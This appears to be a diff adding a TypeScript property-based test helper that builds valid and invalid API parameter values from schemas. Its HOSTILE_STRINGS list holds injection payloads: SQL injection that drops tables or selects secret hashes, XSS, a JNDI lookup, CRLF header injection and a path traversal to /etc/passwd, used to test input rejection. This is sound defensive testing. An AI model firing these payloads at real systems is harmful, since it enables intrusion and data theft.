@@ -1,0 +1,265 @@
+import fc from 'fast-check'
+import type { Parameter, Schema, WireValue } from './spec.js'
+
+// Generators derived from a parameter's schema, not written per parameter: `valid` yields wire
+// values the schema accepts and `invalid` wire values it refuses. Every value is the text that
+// goes on the wire (a string, or several for an exploded array), because that is what a client
+// sends; `decode` reads it back as the schema's type, the way the spec's `form` and `simple`
+// styles define, so that a test can ask the spec's own validator whether a value is valid.
+
+/** Strings that have broken parsers, queries and logs before; used wherever a schema refuses them. */
+export const HOSTILE_STRINGS: readonly string[] = [
+  '',
+  ' ',
+  '\t',
+  'null',
+  'undefined',
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '-1',
+  '0',
+  '1.5',
+  '1e309',
+  '9'.repeat(400),
+  '[]',
+  '{}',
+  'true',
+  '[object Object]',
+  "' OR '1'='1",
+  "'; DROP TABLE session_events; --",
+  '" OR ""="',
+  "1'); SELECT pg_sleep(10); --",
+  "') UNION SELECT secret_hash FROM api_keys --",
+  '<script>alert(1)</script>',
+  '${jndi:ldap://example.com/a}',
+  '{{7*7}}',
+  '%00',
+  '%',
+  '%ZZ',
+  '\u0000',
+  '\u0007',
+  '\u001b[31mred',
+  '\r\nSet-Cookie: a=b',
+  '../../../../etc/passwd',
+  '..',
+  '.',
+  '/',
+  '\\',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  '😀',
+  '𝕊𝕖𝕤𝕤𝕚𝕠𝕟',
+  'ses_🙂',
+  '\u202edesrever',
+  'e\u0301',
+  '\ufeffses_',
+  'ＳＥＳ',
+  'ſ',
+  'İ',
+  'a'.repeat(10_000),
+]
+
+export interface DeriveOptions {
+  /** Where the value goes: header values must survive HTTP unchanged (visible ASCII, no edge spaces). */
+  location?: Parameter['in']
+  /** Values known to exist, by the pattern they match: valid values mix them in. */
+  pools?: Record<string, readonly string[]>
+}
+
+/** Whether an HTTP header carries `value` exactly as it is (header values are trimmed and must be bytes). */
+export const headerSafe = (value: string) => /^[\x21-\x7e](?:[\x20-\x7e]*[\x21-\x7e])?$/.test(value)
+
+const typesOf = (schema: Schema): string[] => [schema.type].flat().filter((t): t is string => typeof t === 'string')
+
+/** A wire value read as the schema's type: integers and booleans only in their canonical form. */
+export function decode(schema: Schema, wire: WireValue): unknown {
+  if (Array.isArray(wire)) return typesOf(schema).includes('array') ? wire.map((w) => decode(schema.items ?? {}, w)) : wire
+  const types = typesOf(schema)
+  if (types.includes('array')) return [decode(schema.items ?? {}, wire)]
+  if (types.includes('integer') && /^-?(0|[1-9]\d*)$/.test(wire)) return Number(wire)
+  if (types.includes('number') && /^-?(0|[1-9]\d*)(\.\d+)?$/.test(wire)) return Number(wire)
+  if (types.includes('boolean') && (wire === 'true' || wire === 'false')) return wire === 'true'
+  return wire
+}
+
+function integerBounds(schema: Schema): { min: number; max: number } {
+  let min = typeof schema.minimum === 'number' ? schema.minimum : -(2 ** 31)
+  let max = typeof schema.maximum === 'number' ? schema.maximum : 2 ** 31 - 1
+  if (typeof schema.exclusiveMinimum === 'number') min = Math.max(min, schema.exclusiveMinimum + 1)
+  if (typeof schema.exclusiveMaximum === 'number') max = Math.min(max, schema.exclusiveMaximum - 1)
+  return { min, max }
+}
+
+/**
+ * Whether JavaScript's Number() reads `text` as an integer in range. Such text is not the
+ * spec's integer (`0x10`, `1e1`, ` 5`, `+5`, `5.0`) but the server accepts it (README, "Known
+ * findings"), so invalid integers leave it out until that is settled.
+ */
+function readsAsInteger(schema: Schema, text: string): boolean {
+  const { min, max } = integerBounds(schema)
+  const n = Number(text)
+  return Number.isInteger(n) && n >= min && n <= max
+}
+
+function stringUnit(options: DeriveOptions) {
+  return options.location === 'header' ? fc.constantFrom(...Array.from({ length: 0x7e - 0x20 + 1 }, (_, i) => String.fromCharCode(0x20 + i))) : 'grapheme'
+}
+
+/** Wire values that the schema accepts. */
+export function validWire(schema: Schema, options: DeriveOptions = {}): fc.Arbitrary<WireValue> {
+  if (schema.const !== undefined) return fc.constant(String(schema.const))
+  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum.map(String))
+  const types = typesOf(schema)
+  if (types.includes('array')) {
+    const item = validWire(schema.items ?? {}, options) as fc.Arbitrary<string>
+    return fc.array(item, { minLength: schema.minItems ?? 0, maxLength: schema.maxItems ?? 10 })
+  }
+  if (types.includes('integer')) {
+    const { min, max } = integerBounds(schema)
+    return fc.integer({ min, max }).map(String)
+  }
+  if (types.includes('boolean')) return fc.constantFrom('true', 'false')
+  if (types.includes('string') || types.length === 0) {
+    const minLength = schema.minLength ?? 0
+    const maxLength = schema.maxLength
+    let arbitrary: fc.Arbitrary<string>
+    if (typeof schema.pattern === 'string') {
+      const pattern = new RegExp(schema.pattern)
+      arbitrary = fc.stringMatching(pattern)
+      const pool = options.pools?.[schema.pattern]
+      if (pool && pool.length > 0) arbitrary = fc.oneof(arbitrary, fc.constantFrom(...pool))
+      arbitrary = arbitrary.filter((s) => s.length >= minLength && (maxLength === undefined || s.length <= maxLength))
+    } else {
+      arbitrary = fc.string({ unit: stringUnit(options), minLength, maxLength: maxLength ?? 64 })
+    }
+    return options.location === 'header' ? arbitrary.filter(headerSafe) : arbitrary
+  }
+  throw new Error(`no generator for schema ${JSON.stringify(schema)}`)
+}
+
+/** Every prefix of an id pattern in the spec (`ses_`, `sev_`, `srr_`…), to forge ids of the wrong kind. */
+export function idPrefixes(spec: unknown): string[] {
+  const found = new Set<string>()
+  const walk = (node: unknown) => {
+    if (Array.isArray(node)) node.forEach(walk)
+    else if (node && typeof node === 'object') {
+      for (const [key, value] of Object.entries(node)) {
+        if (key === 'pattern' && typeof value === 'string') {
+          const m = /^\^([a-z]+_)/.exec(value)
+          if (m) found.add(m[1]!)
+        } else walk(value)
+      }
+    }
+  }
+  walk(spec)
+  return [...found].sort()
+}
+
+const STRAY_CHARACTERS = ['!', '-', '_', ' ', '/', '.', '%', '+', '=', '&', '#', '?', '\u0000', '\n', 'é', '€', 'Ａ', '😀']
+
+/** A valid string with one small change: a character more or less, a stray one, another prefix, another case. */
+function nearMisses(valid: fc.Arbitrary<string>, prefixes: readonly string[]): fc.Arbitrary<string> {
+  return fc.oneof(
+    valid.map((s) => s.slice(0, -1)),
+    fc.tuple(valid, fc.constantFrom('a', 'Z', '0', '_')).map(([s, c]) => s + c),
+    fc.tuple(valid, fc.nat(), fc.constantFrom(...STRAY_CHARACTERS)).map(([s, i, c]) => {
+      const at = s.length === 0 ? 0 : i % s.length
+      return s.slice(0, at) + c + s.slice(at + 1)
+    }),
+    valid.map((s) => s.toUpperCase()),
+    valid.map((s) => ` ${s}`),
+    ...(prefixes.length > 0 ? [fc.tuple(valid, fc.constantFrom(...prefixes)).map(([s, p]) => s.replace(/^[a-z]+_/, p))] : []),
+  )
+}
+
+/** Wire values that the schema refuses. */
+export function invalidWire(schema: Schema, options: DeriveOptions & { prefixes?: readonly string[] } = {}): fc.Arbitrary<WireValue> {
+  const header = options.location === 'header'
+  const transportable = (s: string) => !header || headerSafe(s)
+  const lenient = (s: string) => typesOf(schema).includes('integer') && readsAsInteger(schema, s)
+  const refused = (s: string) => transportable(s) && !validatesAs(schema, s) && !lenient(s)
+  const hostile = HOSTILE_STRINGS.filter(refused)
+  const anyText = fc.oneof(
+    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
+    { weight: 3, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
+    { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1_000, maxLength: 5_000 }) },
+  )
+  const types = typesOf(schema)
+
+  if (types.includes('array')) {
+    const items = schema.items ?? {}
+    const validItem = validWire(items, options) as fc.Arbitrary<string>
+    const invalidItem = invalidWire(items, options) as fc.Arbitrary<string>
+    const maxItems: number | undefined = schema.maxItems
+    const choices: fc.Arbitrary<string[]>[] = [
+      // One bad item among good ones.
+      fc
+        .tuple(fc.array(validItem, { maxLength: Math.max(0, (maxItems ?? 5) - 1) }), invalidItem, fc.nat())
+        .map(([good, bad, i]) => {
+          const at = i % (good.length + 1)
+          return [...good.slice(0, at), bad, ...good.slice(at)]
+        }),
+    ]
+    if (maxItems !== undefined) choices.push(fc.array(validItem, { minLength: maxItems + 1, maxLength: maxItems + 5 }))
+    return fc.oneof(...choices)
+  }
+
+  const choices: fc.Arbitrary<string>[] = []
+  if (hostile.length > 0) choices.push(fc.constantFrom(...hostile))
+  if (Array.isArray(schema.enum) || schema.const !== undefined) {
+    const allowed = (schema.enum ?? [schema.const]).map(String) as string[]
+    choices.push(
+      fc.constantFrom(...allowed).chain((v) => fc.constantFrom(v.toUpperCase(), `${v} `, `${v}x`, v.slice(1), `${v},${v}`)),
+      anyText,
+    )
+  } else if (types.includes('integer')) {
+    const { min, max } = integerBounds(schema)
+    if (min > Number.MIN_SAFE_INTEGER) choices.push(fc.integer({ min: Number.MIN_SAFE_INTEGER, max: min - 1 }).map(String))
+    if (max < Number.MAX_SAFE_INTEGER) choices.push(fc.integer({ min: max + 1, max: Number.MAX_SAFE_INTEGER }).map(String))
+    choices.push(
+      fc.bigInt({ min: 10n ** 20n, max: 10n ** 60n }).map(String),
+      fc.tuple(fc.integer({ min, max }), fc.integer({ min: 1, max: 999 })).map(([n, f]) => `${n}.${f}`),
+      anyText,
+    )
+  } else if (types.includes('string') || types.length === 0) {
+    if (typeof schema.pattern === 'string') {
+      choices.push(nearMisses(validWire(schema, { ...options, pools: {} }) as fc.Arbitrary<string>, options.prefixes ?? []), anyText)
+    }
+    if (typeof schema.maxLength === 'number') {
+      choices.push(fc.string({ unit: stringUnit(options), minLength: schema.maxLength + 1, maxLength: schema.maxLength + 64 }))
+    }
+    if (typeof schema.minLength === 'number' && schema.minLength > 0) {
+      choices.push(fc.string({ unit: stringUnit(options), maxLength: schema.minLength - 1 }))
+    }
+  }
+  if (choices.length === 0) throw new Error(`no invalid values for schema ${JSON.stringify(schema)}`)
+  return fc.oneof(...choices).filter(refused)
+}
+
+/**
+ * Whether one wire string is valid for a (non-array) schema, in the spec's strict sense; checked
+ * here without ajv so that generators stay cheap. The deriver's own test holds it to the spec's
+ * validator.
+ */
+export function validatesAs(schema: Schema, wire: string): boolean {
+  const value = decode(schema, wire)
+  if (schema.const !== undefined) return value === schema.const
+  if (Array.isArray(schema.enum)) return schema.enum.includes(value)
+  const types = typesOf(schema)
+  if (types.includes('integer')) {
+    if (typeof value !== 'number') return false
+    const { min, max } = integerBounds(schema)
+    return Number.isInteger(value) && value >= min && value <= max
+  }
+  if (types.includes('string') || types.length === 0) {
+    if (typeof value !== 'string') return false
+    const length = [...value].length
+    if (typeof schema.minLength === 'number' && length < schema.minLength) return false
+    if (typeof schema.maxLength === 'number' && length > schema.maxLength) return false
+    if (typeof schema.pattern === 'string' && !new RegExp(schema.pattern, 'u').test(value)) return false
+    return true
+  }
+  return true
+}
